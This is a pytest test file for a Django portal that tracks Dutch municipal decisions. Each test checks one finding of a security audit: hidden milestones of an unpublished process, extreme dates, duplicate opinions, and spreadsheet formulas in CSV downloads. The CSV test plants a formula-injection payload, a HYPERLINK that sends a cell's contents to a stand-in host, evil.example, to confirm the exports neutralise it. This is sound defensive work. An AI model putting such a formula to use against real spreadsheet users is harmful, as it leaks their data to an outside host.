"""The findings of the security audit of 1 December 2026 (../shared/reviews/security.md), one
test each (named after the finding), each failing on the main the audit read.

The diff's cost (F1) is specified with the diff itself in tests/core/test_textdiff.py.
"""

import datetime

import pytest
from django.urls import reverse

from decisions.models import Decision, Process
from gr_portal.core.choices import ProcessKind
from gr_portal.core.history import with_history
from milestones.models import Milestone

pytestmark = pytest.mark.django_db

SECRET = "GEHEIM-mijlpaal-7f3a"


# --- F2: milestones of an unpublished process ------------------------------------------------


@pytest.fixture
def secret_milestone(dataset, program_office):
    process = Process.objects.create(
        title=f"Traject {SECRET}", slug="geheim-traject", kind=ProcessKind.AMENDMENT
    )
    milestone = with_history(
        Milestone(
            process=process,
            title=SECRET,
            description=f"Omschrijving {SECRET}",
            planned_start=datetime.date(2022, 9, 1),
        ),
        user=program_office,
        reason="aangemaakt",
    ).save() or Milestone.objects.get(title=SECRET)
    milestone.decisions.add(Decision.objects.get(slug="concept-gr-tekst-2022"))
    return milestone


def test_f2_milestones_of_an_unpublished_process_stay_hidden(
    client, secret_milestone, dordrecht_clerk
):
    history = reverse("history:list", kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk})
    compare = reverse("history:compare", kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk})
    for visitor in (None, dordrecht_clerk):
        client.logout()
        if visitor is not None:
            client.force_login(visitor)
        assert client.get(history).status_code == 404
        assert client.get(compare).status_code == 404
        version = secret_milestone.history.first().history_id
        restore = reverse(
            "history:restore",
            kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk, "history_id": version},
        )
        # Anonymous visitors are sent to log in first; a signed-in griffie learns nothing.
        assert client.post(restore, {"reason": "terug"}).status_code == (
            302 if visitor is None else 404
        )
        for url in (
            "/",
            reverse("decision_detail", args=["concept-gr-tekst-2022"]),
            reverse("process_detail", args=["samenvoeging-drechtwerk-sociaal"]),
            reverse("milestones:timeline"),
            reverse("milestones:agenda"),
            reverse("milestones:municipality_agenda", args=["dordrecht"]),
            reverse("search:page") + "?q=GEHEIM",
            reverse("opendata:feed"),
            reverse("opendata:matrix_csv"),
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            body = b"".join(response) if response.streaming else response.content
            assert SECRET.encode() not in body, url


# --- F4 and F10: dates out of range ------------------------------------------------------------


@pytest.mark.parametrize(
    "day", [datetime.date(9999, 12, 31), datetime.date(1, 1, 1)], ids=["9999", "0001"]
)
def test_f4_a_stored_extreme_date_breaks_no_page_feed_or_letter(client, program_office, day):
    from decisions.models import Opinion, Treatment
    from milestones.models import Letter
    from tests.milestones.letters.helpers import make_letter

    Milestone.objects.filter(pk=Milestone.objects.order_by("pk").first().pk).update(
        planned_start=day, planned_end=None, precision="month"
    )
    Milestone.objects.filter(pk=Milestone.objects.order_by("pk").last().pk).update(
        planned_start=day, planned_end=day, actual_start=day, actual_end=day, precision="day"
    )
    Treatment.objects.filter(received_on__isnull=False).update(received_on=day, planned_on=day)
    Opinion.objects.update(submitted_on=day)
    letter = make_letter()
    Letter.objects.filter(pk=letter.pk).update(letter_date=day)
    urls = [
        "/",
        reverse("milestones:timeline"),
        reverse("milestones:agenda"),
        reverse("milestones:municipality_agenda", args=["dordrecht"]),
        reverse("process_detail", args=["samenvoeging-drechtwerk-sociaal"]),
        reverse("decision_detail", args=["concept-gr-tekst-2022"]),
        reverse("municipality_detail", args=["dordrecht"]),
        reverse("decisions:status_matrix"),
        reverse("opendata:feed"),
        reverse("opendata:matrix_csv"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
    client.force_login(program_office)
    for url in (
        *urls,
        reverse("letters:preview", args=[letter.pk, "dordrecht"]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url


def test_f10_dates_outside_1990_2100_are_refused_with_a_dutch_message(dataset):
    from django.core.exceptions import ValidationError

    milestone = Milestone.objects.order_by("pk").first()
    milestone.planned_start = datetime.date(9999, 12, 31)
    with pytest.raises(ValidationError) as refused:
        milestone.full_clean()
    assert refused.value.message_dict["planned_start"] == ["Kies een datum tussen 1990 en 2100."]
    decision = Decision.objects.get(slug="concept-gr-tekst-2022")
    decision.introduced_on = datetime.date(1, 1, 1)
    with pytest.raises(ValidationError) as refused:
        decision.full_clean()
    assert "introduced_on" in refused.value.message_dict


def test_f10_the_clerk_cannot_enter_a_zienswijze_in_the_year_9999(client, dordrecht_clerk):
    from decisions.models import Opinion

    client.force_login(dordrecht_clerk)
    url = reverse("clerk:opinion", args=["concept-gr-tekst-2022", "dordrecht"])
    before = Opinion.objects.count()
    response = client.post(
        url, {"revision": "0", "text": "Zienswijze", "submitted_on": "9999-12-31"}
    )
    assert response.status_code == 200
    assert "Kies een datum tussen 1990 en 2100." in response.content.decode()
    assert Opinion.objects.count() == before


# --- F5: the same new zienswijze saved twice ---------------------------------------------------


def test_f5_a_second_new_zienswijze_is_refused_with_the_first_shown(client, dordrecht_clerk, roles):
    from django.contrib.auth import get_user_model

    from councils.models import ClerkMembership, Municipality
    from councils.roles import CLERK
    from decisions.models import Opinion

    other = get_user_model().objects.create_user("griffie-dordrecht-2", password="x")
    other.groups.add(roles[CLERK])
    ClerkMembership.objects.create(
        user=other, municipality=Municipality.objects.get(slug="dordrecht")
    )
    url = reverse("clerk:opinion", args=["concept-gr-tekst-2022", "dordrecht"])
    client.force_login(dordrecht_clerk)
    form = client.get(url).context["form"]
    assert form.initial["revision"] == 0
    first = {"revision": "0", "text": "Zienswijze van griffier A", "submitted_on": "2022-07-20"}
    assert client.post(url, first).status_code == 302
    client.force_login(other)
    second = {"revision": "0", "text": "Zienswijze van griffier B", "submitted_on": "2022-07-20"}
    response = client.post(url, second)
    assert response.status_code == 200
    page = response.content.decode()
    assert "iemand anders" in page
    assert "Zienswijze van griffier A" in page
    assert (
        Opinion.objects.get(
            decision__slug="concept-gr-tekst-2022", municipality__slug="dordrecht"
        ).text
        == "Zienswijze van griffier A"
    )


# --- F6: spreadsheet formulas in the CSV downloads ---------------------------------------------


def test_f6_no_csv_cell_starts_a_formula(client, dataset):
    import csv
    import io

    from councils.models import Fractie
    from decisions.models import Amendment, Treatment
    from tests.recording import record_vote

    treatment = Treatment.objects.get(
        decision__slug="concept-gr-tekst-2022",
        body__municipality__slug="dordrecht",
        body__kind="council",
        round=1,
    )
    record_vote(treatment, vote_subjects=True)
    Amendment.objects.filter(treatment=treatment).update(
        code="=1+2", title='=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
    )
    for fractie in Fractie.objects.filter(term__municipality__slug="dordrecht"):
        Fractie.objects.filter(pk=fractie.pk).update(name=f"@SUM({fractie.pk})")
    Decision.objects.filter(slug="concept-gr-tekst-2022").update(title="-2+3 Concept GR-tekst")
    for name in ("votes_csv", "matrix_csv", "member_votes_csv"):
        response = client.get(reverse(f"opendata:{name}"))
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(b"".join(response).decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells or name == "member_votes_csv", name  # no roll call was recorded
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        if name == "votes_csv":
            assert "'=1+2" in cells
            assert "'-2+3 Concept GR-tekst" in cells


def test_f6_numbers_stay_numbers_and_formulas_become_text():
    from gr_portal.core.spreadsheet import safe_cell

    assert safe_cell(-3) == -3
    assert safe_cell("") == ""
    assert safe_cell("Dordrecht") == "Dordrecht"
    for formula in ("=1+2", "+31", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(formula) == "'" + formula
